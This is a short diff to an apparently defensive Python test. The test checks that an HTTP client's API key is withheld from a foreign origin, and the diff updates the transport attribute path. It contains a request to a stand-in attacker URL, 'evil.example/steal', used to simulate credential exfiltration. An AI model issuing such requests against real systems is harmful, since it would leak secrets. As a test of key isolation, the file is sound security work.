@@ -99,6 +99,6 @@ async def test_the_key_is_not_sent_to_a_foreign_origin_even_on_an_injected_clien
         return httpx.Response(200, content=b"x")
 
     client = client_for(handler)
-    await client._transport.request("GET", "https://evil.example/steal", repeatable=True)
-    await client._transport.request("GET", f"{QUEUE}/me/app/requests/r1", repeatable=True)
+    await client.engine.transport.request("GET", "https://evil.example/steal", repeatable=True)
+    await client.engine.transport.request("GET", f"{QUEUE}/me/app/requests/r1", repeatable=True)
     assert seen == {"evil.example": None, "queue.fal.run": "Key k"}
